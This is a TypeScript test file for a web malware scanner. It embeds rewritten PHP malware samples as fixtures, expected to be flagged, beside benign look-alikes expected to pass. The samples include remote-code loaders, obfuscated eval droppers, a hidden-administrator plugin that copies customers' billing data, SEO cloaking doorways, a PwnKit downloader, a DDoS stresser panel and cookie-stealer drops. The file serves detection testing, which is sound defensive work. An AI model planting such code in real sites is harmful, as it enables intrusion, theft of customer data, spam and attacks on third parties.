import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { deflateRawSync } from 'node:zlib';
import { createScanner } from './scanner.js';

// Session 44: the misses of its fair samples (bench/redteam/README-corpus-s44.md) and families no sample held, each
// written again by us, with the look-alikes that must not be malicious.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);
const why = (r: { score: number; findings: readonly { rule: string; score: number }[] }) => `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`;

// A stand-in payload, deflated and in base64 (what it says does not matter: the call that runs it is the finding).
const BLOB = deflateRawSync(Buffer.from(Array.from({ length: 300 }, (_, i) => `// line ${i} of a stand-in ${(i * 7919) % 1000}`).join('\n'))).toString('base64');
// Letters in an order of their own, and names picked out of them one index at a time.
const LETTERS = 'qZ4v_Xe1mTgB0nK8wLr2PaYc9sHd5oJf3uNi6hRz7yMtDlWbExGkVpSjCAFIOQU';
const pick = (held: string, name: string) => [...name].map((c) => `$${held}[${LETTERS.indexOf(c)}]`).join('.');
const b64 = (t: string) => Buffer.from(t).toString('base64');

const PAGES: [string, string, string][] = [
  [
    'a loader whose address is in base64: fetched with a browser\'s name, decoded, written to tempnam(), required and deleted (H46)',
    '/srv/www/wp-content/uploads/n.php',
    `<?php function get_it($u){$o=array('http'=>array('method'=>'GET','header'=>"User-Agent: Mozilla/5.0\\r\\n"),'ssl'=>array('verify_peer'=>false));return file_get_contents($u,false,stream_context_create($o));}
$where=base64_decode('${b64('https://raw.githubusercontent.com/someone/kit/main/fm.php')}');$got=base64_decode(get_it($where));$t=tempnam(sys_get_temp_dir(),'x');file_put_contents($t,$got);require_once $t;unlink($t);?>`,
  ],
  [
    'a read-only browser: any folder the request names listed with dir(), any file it names printed line by line (H46)',
    '/srv/www/look.php',
    `<?php
$d = $_GET['d'] ?? null;
$f = $_GET['f'] ?? null;
if ($f) {
  echo "<pre>";
  $h = @fopen($f, 'r');
  if (!$h) die("cannot open $f");
  while (!feof($h)) echo htmlspecialchars(fgets($h));
  fclose($h);
  echo "</pre>";
} else {
  $d = $d ?: './';
  $dir = @dir($d);
  if (!$dir) die("cannot open $d");
  while (($e = $dir->read()) !== false) {
    if ($e === '.' || $e === '..') continue;
    echo is_dir($d . $e) ? "<a href='?d=$d$e/'>$e/</a><br>" : "<a href='?f=$d$e'>$e</a><br>";
  }
  $dir->close();
}
`,
  ],
  [
    'a cPanel cron job kept as text: the PHP binary given eval(gzinflate(base64_decode(..))) to run (H49)',
    '/var/spool/cron/site-job.txt',
    `/usr/local/bin/php -r 'eval(gzinflate(base64_decode("${BLOB}")));' >/dev/null 2>&1\n`,
  ],
  [
    'a spam mailer whose function names are a table in $GLOBALS decoded from base64, its fields named by a function of their own (H49)',
    '/srv/www/wp-content/plugins/x/m.php',
    `<? $GLOBALS['_5521_']=Array(base64_decode('${b64('base64_decode')}'),base64_decode('${b64('base64_decode')}'),base64_decode('${b64('base64_decode')}'),base64_decode('${b64('mail')}')); ?><? function _k($i){$a=Array('${b64('rcpt')}','${b64('subj')}','${b64('text')}','${b64('hdrs')}');return base64_decode($a[$i]);} ?><?php $_0=$GLOBALS['_5521_'][0]($_POST[_k(0)]);$_1=$GLOBALS['_5521_'][1]($_POST[_k(1)]);$_2=$GLOBALS['_5521_'][2]($_POST[_k(2)]);$_3=$GLOBALS['_5521_'][3]($_0,$_1,$_2,base64_decode($_POST[_k(3)]));echo $_3 ? 'ok' : 'fail'; ?>`,
  ],
  [
    'a fake cache plugin picking its decoders\' names letter by letter out of a shuffled string, then eval of what they make of a blob (H49)',
    '/srv/www/wp-content/plugins/super-cache-x/admin.php',
    `%PDF-
<?php
/**
 * Plugin Name: Cache Helper
 * Version: 1.0
 */
$q = "${LETTERS}"; $one = ${pick('q', 'gzinflate')}; $two = ${pick('q', 'base64_decode')}; $blob = "${BLOB}"; eval($one($two($blob)));`,
  ],
  [
    'a must-use plugin hiding one administrator from the users list and the REST API, hiding the must-use plugins from Site Health, and copying every paid order\'s customer into an option (H49)',
    '/srv/www/wp-content/mu-plugins/user-filter.php',
    `<?php
if (!defined('ABSPATH')) exit;
add_action('pre_user_query', function ($q) {
  $id = (int) get_option('_hidden_uid');
  if (!$id) return;
  global $wpdb;
  $q->query_where .= $wpdb->prepare(" AND {$wpdb->users}.ID != %d", $id);
});
add_filter('rest_user_query', function ($args) {
  $args['exclude'][] = (int) get_option('_hidden_uid');
  return $args;
});
add_filter('debug_information', function ($info) {
  foreach (array_keys($info['wp-mu-plugins']['fields'] ?? []) as $k) if (stripos($k, 'user-filter') !== false) unset($info['wp-mu-plugins']['fields'][$k]);
  return $info;
});
add_action('woocommerce_payment_complete', function ($oid) {
  $o = wc_get_order($oid);
  $row = json_encode(['e' => $o->get_billing_email(), 'p' => $o->get_billing_phone(), 's' => $o->get_total()]);
  update_option('_wc_stats_cache', get_option('_wc_stats_cache', '') . $row . "\\n", 'no');
});
`,
  ],
  [
    'a spam landing page checking its own host against Spamhaus\'s DBL, a 404 if listed, else random words and a redirect in shifted character codes (H49)',
    '/srv/www/wp-content/plugins/reflex/r.php',
    `<?php
function words($n) { $w = ['river', 'stone', 'lamp', 'quiet', 'orange', 'field']; $o = []; for ($i = 0; $i < $n; $i++) $o[] = $w[array_rand($w)]; return implode(' ', $o); }
$r = gethostbyname($_SERVER['HTTP_HOST'] . '.dbl.spamhaus.org');
if (preg_match('/^127\\.0\\.1/', $r)) { header('HTTP/1.1 404 Not Found'); exit; }
$to = array_map(fn($c) => ord($c) + 7, str_split('http://pills.example/?a=1'));
echo '<html><head><title>' . words(4) . '</title></head><body><p>' . words(60) . '</p><script>var k=7,b=[' . implode(',', $to) . '],s="";for(var i=0;i<b.length;i++)s+=String.fromCharCode(b[i]-k);window.location.href=s;</script></body></html>';
`,
  ],
  [
    'a theme footer with a block added after wp_footer(): a fixed address fetched by file_get_contents, then curl, as a browser, and printed (H49)',
    '/srv/www/wp-content/themes/shop/footer.php',
    `  </div><!-- /page -->
  <?php wp_footer(); ?>
<?php
$src = "https://links.example.net/bl/";
function grab($u) {
  if (ini_get('allow_url_fopen') && ($d = @file_get_contents($u))) return $d;
  if (function_exists('curl_init')) { $c = curl_init($u); curl_setopt_array($c, [CURLOPT_RETURNTRANSFER => 1, CURLOPT_USERAGENT => 'Mozilla/5.0', CURLOPT_TIMEOUT => 10]); $d = curl_exec($c); curl_close($c); if ($d) return $d; }
  return '';
}
echo grab($src);
?>
</body>
</html>`,
  ],
[
    'a file manager whose folder is realpath() of the request\'s, kept when empty, and whose names basename() cleans: deletes, writes and lists (H50)',
    '/srv/www/wp-includes/sh.php',
    `<?php
$path = isset($_GET['path']) ? realpath($_GET['path']) : realpath(__DIR__);
if (!$path) $path = realpath(__DIR__);
if (isset($_GET['del'])) { $t = $path . '/' . basename($_GET['del']); is_dir($t) ? rmdir($t) : unlink($t); header('Location: ?path=' . urlencode($path)); exit; }
if (isset($_POST['save'])) { $f = $path . '/' . basename($_POST['file']); file_put_contents($f, $_POST['content']); exit; }
foreach (scandir($path) as $i) echo '<a href="?path=' . urlencode($path . '/' . $i) . '">' . htmlspecialchars($i) . '</a><br>';
`,
  ],
  [
    'an application\'s front file with crawlers on its home page shown a fixed page from a static host (H50)',
    '/srv/www/system/core/CodeIgniter.php',
    `<?php
/** CodeIgniter front controller (stand-in) */
$ua = strtolower($_SERVER['HTTP_USER_AGENT'] ?? '');
$ref = strtolower($_SERVER['HTTP_REFERER'] ?? '');
if ($_SERVER['REQUEST_URI'] == '/' && (strpos($ua, 'bot') !== false || strpos($ua, 'google') !== false || strpos($ref, 'google') !== false)) {
    echo file_get_contents('links-4u.pages.dev/home');
    exit();
}
defined('BASEPATH') OR exit('No direct script access allowed');
`,
  ],
  [
    'a core file with a remote text file printed at its end (H50)',
    '/srv/www/system/core/Common.php',
    `<?php
function is_php($version) { return version_compare(PHP_VERSION, $version, '>='); }
echo file_get_contents("https://cheap-links.pages.dev/list.txt");
`,
  ],
  [
    'a root helper fetching PwnKit through a command wrapper and making it executable (H50)',
    '/srv/www/r.php',
    `<?php
function run($c) { if (function_exists('shell_exec')) return shell_exec($c); @exec($c, $o); return implode("\\n", $o); }
echo '<pre>' . php_uname() . '</pre>';
if (isset($_GET['go'])) {
  run('curl -fsSL https://raw.githubusercontent.com/someone/PwnKit/main/PwnKit -o pk; chmod +x pk');
  echo 'fetched';
}
`,
  ],
  [
    'WordPress malware building create_function letter by letter from one-letter variables, the body too (H51)',
    '/srv/www/wp-content/themes/x/imvm.php',
    `<?php
${Array.from('create_function', (c, i) => `$v${i} = '${c}x';`).join(' ')}
$a1 = 'eval(';
$a2 = 'array_pop(func_get_args()));';
${'/* ' + 'padding to make the file larger than the smallest ones the fold reads at once '.repeat(60) + '*/'}
$mk = $v0[0] . $v1[0]. $v2['0'] . $v3['0'] . $v4[0] . $v5[0] . $v6['0'] . $v7[0] . $v8[0] . $v9['0'] . $v10[0] . $v11[0] . $v12['0'] . $v13[0] . $v14[0];
$run = $mk('', $a1 . $a2);
$run($_POST['x'] ?? '');
`,
  ],
  [
    'a spam mailer taking to, subject, body and headers from the first posted value, reversed, base64 and split on |||, over array_map(\'stripslashes\', $_POST) (H51)',
    '/srv/www/wp-content/uploads/2024/d.php',
    `<?php
function b64u($v) { return base64_decode(strtr($v, '-_,', '+/=')); }
if (isset($_POST) and count($_POST) > 0) {
  $vals = array_values(array_map('stripslashes', $_POST));
  $m = explode('|||', b64u(strrev($vals[0])));
  echo json_encode(['mail' => mail($m[0], $m[1], $m[2], $m[3]) ? 1 : 0]);
}
`,
  ],
  [
    'a doorway caching crawlers\' pages in a hidden folder of the temporary one, search visitors sent to a landing page, updated by a shell download from a hidden host (H51)',
    '/srv/www/wp-content/plugins/drno/d.php',
    `<?php
$host = str_replace('www.', '', $_SERVER['HTTP_HOST'] ?? '');
$key = md5($host);
$dir = sys_get_temp_dir() . '/.' . $key . '/';
$src = base64_decode('${b64('pages.example.org')}');
if (($_POST['k'] ?? '') !== '' && md5($_POST['p'] ?? '') === 'e5e4570182820af0a183ce1520afe43b') {
  echo shell_exec("cd " . sys_get_temp_dir() . "; wget http://$src/arc/$key.tgz -O 1.tgz; tar -xzf 1.tgz; rm -f 1.tgz");
  exit;
}
$page = $dir . md5($host . $_SERVER['REQUEST_URI']);
if (is_file($page)) {
  if (preg_match('#googlebot|bingbot|spider|crawler#i', $_SERVER['HTTP_USER_AGENT'])) { echo file_get_contents($page); exit; }
  if (preg_match('#google|bing\\.com|yahoo#i', $_SERVER['HTTP_REFERER'])) { header('Location: http://' . $src . '/lp.php?d=' . $key); exit; }
}
`,
  ],
  [
    'a WordPress core file given a first line including wp-vcd.php where it exists (H53)',
    '/srv/www/wp-includes/post.php',
    `<?php if (file_exists(dirname(__FILE__) . '/wp-vcd.php')) include_once(dirname(__FILE__) . '/wp-vcd.php'); ?><?php
/**
 * Core Post API (stand-in)
 */
function get_post_status_stand_in($p) { return $p->post_status ?? false; }
`,
  ],
  [
    'wp-vcd\'s ad injector: editors\' addresses kept in wp-includes, ad scripts added to posts and footers for everyone else (H53)',
    '/srv/www/wp-includes/wp-tmp.php',
    `error_reporting(0);
if (!function_exists('post_extra')) {
function post_extra($content) { if (is_single()) $content .= '<script async src="//ads.example.net/p.php?z=77"></script>'; return $content; }
function footer_extra() { if (!is_single()) echo '<script src="//ads.example.net/f.php?z=78"></script>'; }
if (current_user_can('edit_others_pages')) {
  $seen = @file_get_contents(ABSPATH . 'wp-includes/wp-feed.php');
  if (stripos($seen, $_SERVER['REMOTE_ADDR']) === false) @file_put_contents(ABSPATH . 'wp-includes/wp-feed.php', $seen . $_SERVER['REMOTE_ADDR'] . "\\n");
}
if (!is_user_logged_in()) {
  $list = @file_get_contents(ABSPATH . 'wp-includes/wp-feed.php');
  if (stripos($list, $_SERVER['REMOTE_ADDR']) === false) { add_filter('the_content', 'post_extra'); add_action('wp_footer', 'footer_extra'); }
}
}
`,
  ],
];

const LOOKALIKES: [string, string, string][] = [
  [
    'a template engine compiling a template to a temporary file and including it (no address fetched)',
    '/srv/www/lib/tpl.php',
    `<?php
function render($name, array $vars) {
  $src = file_get_contents(__DIR__ . '/views/' . basename($name) . '.tpl');
  $php = preg_replace('/\\{\\{\\s*(\\w+)\\s*\\}\\}/', '<?= htmlspecialchars($$1) ?>', $src);
  $t = tempnam(sys_get_temp_dir(), 'tpl');
  file_put_contents($t, $php);
  extract($vars);
  include $t;
  unlink($t);
}
`,
  ],
  [
    'a log viewer listing its own log folder and printing the log the request names, by its base name',
    '/srv/www/admin/logs.php',
    `<?php
const LOGS = '/var/log/shop/';
if (!current_user_can('manage_options')) exit;
if (isset($_GET['f'])) {
  $h = fopen(LOGS . basename($_GET['f']), 'r');
  while ($h && !feof($h)) echo htmlspecialchars(fgets($h));
} else {
  $d = dir(LOGS);
  while (($e = $d->read()) !== false) if ($e[0] !== '.') echo "<a href='?f=" . urlencode($e) . "'>" . htmlspecialchars($e) . "</a><br>";
}
`,
  ],
  [
    'a crontab running a PHP one-liner that prints the version, and a maintenance script',
    '/var/spool/cron/notes.txt',
    `0 3 * * * /usr/bin/php -r 'echo phpversion(), PHP_EOL;' >> /var/log/php-version.log
30 3 * * * /usr/bin/php /srv/www/wp-cron.php >/dev/null 2>&1
`,
  ],
  [
    'a table of formatters kept in $GLOBALS and called by index on request input',
    '/srv/www/lib/fmt.php',
    `<?php
$GLOBALS['fmt'] = array('trim', 'strtolower', 'htmlspecialchars');
$name = $GLOBALS['fmt'][0]($_POST['name'] ?? '');
$slug = $GLOBALS['fmt'][1]($name);
echo $GLOBALS['fmt'][2]($slug);
`,
  ],
  [
    'an agency\'s published snippet hiding its support login from the users list and the count',
    '/srv/www/wp-content/mu-plugins/hide-support.php',
    `<?php
add_action('pre_user_query', function ($user_search) {
  global $current_user, $wpdb;
  if ($current_user->user_login !== 'agency-support') {
    $user_search->query_where = str_replace('WHERE 1=1', "WHERE 1=1 AND {$wpdb->users}.user_login != 'agency-support'", $user_search->query_where);
  }
});
add_filter('views_users', function ($views) {
  $views['all'] = preg_replace_callback('/\\((\\d+)\\)/', fn($m) => '(' . ($m[1] - 1) . ')', $views['all']);
  return $views;
});
`,
  ],
  [
    'an anti-spam plugin looking up the visitor\'s address in Spamhaus\'s ZEN and refusing a listed one',
    '/srv/www/wp-content/plugins/dnsbl/check.php',
    `<?php
$ip = $_SERVER['REMOTE_ADDR'];
$rev = implode('.', array_reverse(explode('.', $ip)));
if (preg_match('/^127\\.0\\.0\\./', gethostbyname($rev . '.zen.spamhaus.org'))) {
  header('HTTP/1.1 403 Forbidden');
  exit('Your address is listed: https://www.spamhaus.org/lookup/');
}
`,
  ],
  [
    'a theme footer printing a partner\'s banner fetched through the WordPress HTTP API',
    '/srv/www/wp-content/themes/shop/footer.php',
    `  <?php wp_footer(); ?>
<?php
$banner = "https://partners.example.com/banner.html";
$r = wp_remote_get($banner, ['timeout' => 5]);
if (!is_wp_error($r)) echo wp_kses_post(wp_remote_retrieve_body($r));
?>
</body></html>`,
  ],
[
    'a prerender middleware giving crawlers the page asked for, rendered by a service',
    '/srv/www/public/index.php',
    `<?php
$ua = $_SERVER['HTTP_USER_AGENT'] ?? '';
if (preg_match('/googlebot|bingbot|yandex/i', $ua)) {
  echo file_get_contents('https://render.example.com/render?url=' . rawurlencode('https://shop.example.com' . $_SERVER['REQUEST_URI']));
  exit;
}
require __DIR__ . '/app.php';
`,
  ],
  [
    'a maintenance page printing a status text from the company\'s own site',
    '/srv/www/status.php',
    `<?php
$s = @file_get_contents('https://status.example.com/api/v2/status.json');
echo htmlspecialchars(json_decode($s, true)['status']['description'] ?? 'unknown');
`,
  ],
  [
    'a server audit page listing kernel exploits to patch, linking to advisories',
    '/srv/www/admin/audit.php',
    `<?php
$k = php_uname('r');
$known = ['CVE-2021-4034 (PwnKit)' => 'polkit', 'CVE-2022-0847 (Dirty Pipe)' => '5.8 to 5.16'];
foreach ($known as $id => $what) echo '<li>' . htmlspecialchars("$id: $what") . ' <a href="https://nvd.nist.gov/">advisory</a></li>';
echo '<pre>' . htmlspecialchars(shell_exec('uname -a')) . '</pre>';
`,
  ],
  [
    'a form that trims every posted value with array_map and mails the site\'s own address',
    '/srv/www/contact.php',
    `<?php
$in = array_map('trim', $_POST);
mail('info@example.com', 'Contact form', 'From: ' . ($in['name'] ?? '') . "\\n\\n" . ($in['message'] ?? ''));
echo 'Thanks';
`,
  ],
  [
    'a package importer keeping an upload in the session, writing it to a temporary file and a folder of the user\'s, then deleting them (Cacti\'s shape, red team S44R)',
    '/srv/www/cacti/package_import.php',
    `<?php
session_start();
if (isset($_FILES['pkg']['tmp_name']) && $_FILES['pkg']['tmp_name'] != '') {
  $xmlfile = $_FILES['pkg']['tmp_name'];
  $_SESSION['pkg_data'] = file_get_contents($xmlfile);
} elseif (isset($_SESSION['pkg_data'])) {
  $xmlfile = sys_get_temp_dir() . '/pkg_import_' . rand();
  file_put_contents($xmlfile, $_SESSION['pkg_data']);
}
$summary = import_summary($xmlfile);
unlink($xmlfile);
$name = preg_replace('/[^a-z0-9_.]/i', '', $_POST['file'] ?? 'pkg.xml');
$tmp_dir = sys_get_temp_dir() . '/package' . $_SESSION['uid'];
if (!is_dir($tmp_dir)) mkdir($tmp_dir);
$xmlfile = $tmp_dir . '/' . $name;
file_put_contents($xmlfile, fetch_from_repo($name));
import_package($xmlfile);
unlink($xmlfile);
`,
  ],
  [
    'an analytics plugin counting crawlers and search referrals into its own cache folder',
    '/srv/www/wp-content/plugins/stats/track.php',
    `<?php
$kind = 'visit';
if (preg_match('#googlebot|bingbot|spider|crawler#i', $_SERVER['HTTP_USER_AGENT'] ?? '')) $kind = 'bot';
elseif (preg_match('#google\\.|bing\\.com|yahoo\\.#i', $_SERVER['HTTP_REFERER'] ?? '')) $kind = 'search';
$file = WP_CONTENT_DIR . '/cache/stats/' . date('Y-m-d') . '.json';
$c = is_file($file) ? json_decode(file_get_contents($file), true) : [];
$c[$kind] = ($c[$kind] ?? 0) + 1;
file_put_contents($file, json_encode($c), LOCK_EX);
`,
  ],
  [
    'an ad plugin that shows its own network\'s script to visitors who are not logged in',
    '/srv/www/wp-content/plugins/simple-ads/ads.php',
    `<?php
/* Plugin Name: Simple Ads */
add_action('wp_footer', function () {
  if (is_user_logged_in()) return;
  echo '<script async src="https://ads.example.com/tag.js?id=' . esc_attr(get_option('simple_ads_id')) . '"></script>';
});
add_action('admin_init', function () { if (current_user_can('manage_options') && isset($_POST['simple_ads_id'])) update_option('simple_ads_id', sanitize_text_field($_POST['simple_ads_id'])); });
`,
  ],
];

const FAMILIES: [string, string, string][] = [
  [
    'a DDoS panel posting the form\'s host, port, time and method to a stresser\'s API with its key (H45)',
    '/srv/www/panel/hub.php',
    `<?php
$key = "k3y-0f-the-panel";
if (isset($_POST['launch'])) {
  $target = $_POST['host'];
  $p = intval($_POST['port']);
  $secs = intval($_POST['time']);
  $how = $_POST['method'];
  $go = "https://api.stress.example/v1/start?key=" . $key . "&host=" . urlencode($target) . "&port=" . $p . "&time=" . $secs . "&method=" . $how;
  $answer = file_get_contents($go);
  echo "<p>Attack queued: " . htmlspecialchars($answer) . "</p>";
}
?>
<form method="post"><input name="host"><input name="port" value="80"><input name="time" value="120">
<select name="method"><option>UDP</option><option>NTP</option><option>DNS</option></select><button name="launch">Go</button></form>
`,
  ],
  [
    'the same relay through curl, the request\'s values interpolated into the address',
    '/srv/www/api/run.php',
    `<?php
$h = curl_init();
curl_setopt($h, CURLOPT_URL, "http://198.51.100.9/api.php?key=Q1&ip={$_GET['ip']}&port={$_GET['port']}&time={$_GET['time']}&method={$_GET['m']}");
curl_setopt($h, CURLOPT_RETURNTRANSFER, true);
echo curl_exec($h) ? 'flood started' : 'error';
`,
  ],
  [
    'an XSS cookie stealer\'s drop: the cookie, address, date and referer appended to a page, the visitor sent to a search engine',
    '/srv/www/c.php',
    `<?php
$got = $_GET['c'];
$from = $_SERVER['REMOTE_ADDR'];
$when = date("j F, Y, g:i a");
$ref = $_SERVER['HTTP_REFERER'];
$out = fopen('cookies.html', 'a');
fwrite($out, 'Cookie: ' . $got . '<br> IP: ' . $from . '<br> Date: ' . $when . '<br> Referer: ' . $ref . '<hr>');
fclose($out);
header("Location: http://www.example.com");
`,
  ],
  [
    'a cookie stealer\'s drop in one line, with a named field',
    '/srv/www/log.php',
    `<?php
if (isset($_GET['cookie'])) {
  file_put_contents('log.txt', date('c') . ' ' . $_SERVER['REMOTE_ADDR'] . ' ' . $_GET['cookie'] . PHP_EOL, FILE_APPEND);
}
header('Location: https://example.net/');
`,
  ],
];

const FAMILY_LOOKALIKES: [string, string, string][] = [
  [
    'an uptime monitor asking its provider\'s API to probe a host and port the form gives',
    '/srv/www/monitor/probe.php',
    `<?php
$host = $_POST['host'];
$port = (int) $_POST['port'];
$url = "https://monitor.example.com/api/probe?host=" . urlencode($host) . "&port=" . $port . "&timeout=5&type=tcp";
echo htmlspecialchars(file_get_contents($url));
`,
  ],
  [
    'a load-test runner of a company\'s own staging site, its settings fixed in the code',
    '/srv/www/ops/loadtest.php',
    `<?php
// starts the nightly stress test of staging (k6 cloud); only the run's label comes from the form
$label = preg_replace('/[^a-z0-9-]/', '', $_POST['label'] ?? 'nightly');
$api = "https://k6.example.com/v1/tests/start?project=42&label=" . $label . "&duration=600&vus=50";
$ctx = stream_context_create(['http' => ['method' => 'POST', 'header' => 'Authorization: Token ' . getenv('K6_TOKEN')]]);
echo file_get_contents($api, false, $ctx);
`,
  ],
  [
    'a campaign click tracker logging the campaign and address, then sending the visitor to the sale',
    '/srv/www/t.php',
    `<?php
$c = $_GET['c'] ?? 'none';
file_put_contents(__DIR__ . '/clicks.log', date('c') . " {$_SERVER['REMOTE_ADDR']} campaign=$c\\n", FILE_APPEND);
header('Location: https://shop.example.com/sale');
`,
  ],
  [
    'a cookie-consent log keeping the choice and a hash of the address',
    '/srv/www/consent.php',
    `<?php
$choice = $_POST['cookie'] === 'accept' ? 'accept' : 'reject';
file_put_contents('/var/log/consent.log', date('c') . ' ' . hash('sha256', $_SERVER['REMOTE_ADDR']) . ' ' . $choice . "\\n", FILE_APPEND);
header('Location: https://www.example.org/privacy');
`,
  ],
  [
    'a hit logger writing the address and referer, then sending the visitor home',
    '/srv/www/hit.php',
    `<?php
$line = date('c') . ' ' . $_SERVER['REMOTE_ADDR'] . ' ' . ($_SERVER['HTTP_REFERER'] ?? '-') . ' ' . ($_GET['page'] ?? '') . "\\n";
file_put_contents(__DIR__ . '/hits.log', $line, FILE_APPEND | LOCK_EX);
header('Location: /index.php');
`,
  ],
];

describe('scan: session 44 samples, the misses written again', () => {
  for (const [name, path, src] of PAGES) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every page', () => assert.equal(PAGES.length, 17));
  for (const [name, path, src] of LOOKALIKES) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 14));
});

describe('scan: families written from their published shapes (session 44)', () => {
  for (const [name, path, src] of FAMILIES) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every family', () => assert.equal(FAMILIES.length, 4));
  for (const [name, path, src] of FAMILY_LOOKALIKES) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every look-alike', () => assert.equal(FAMILY_LOOKALIKES.length, 5));
});
